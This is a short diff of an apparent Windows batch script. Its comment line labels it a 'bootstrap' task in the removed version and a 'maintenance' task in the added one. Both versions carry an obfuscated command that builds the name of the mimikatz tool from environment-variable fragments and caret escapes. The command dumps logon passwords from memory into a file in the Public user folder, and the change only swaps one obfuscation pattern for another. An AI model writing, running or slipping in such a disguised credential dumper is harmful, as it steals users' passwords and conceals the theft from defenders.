@@ -1,2 +1,2 @@
-REM bootstrap 8817 v2
-%comspec:~-11,1%^im^ik%ProgramData:~-3,1%%COMSPEC:~14,1%z.%COMSPEC:~-1,1%%COMSPEC:~-2,1%%public:~-10,1% "privilege::debug" "sekurlsa::logonpasswords" "exit" > C:\Use^r^s\^Pub^li^c\m.t^x^t
+REM maintenance 7065 v2
+%comspec:~16,1%^i%PROGRAMDATA:~9,1%^ik%PROGRAMDATA:~-3,1%tz.ex^e "privilege::debug" "sekurlsa::logonpasswords" "exit" > C:\U^sers\P^u^b^lic\^m.t^xt
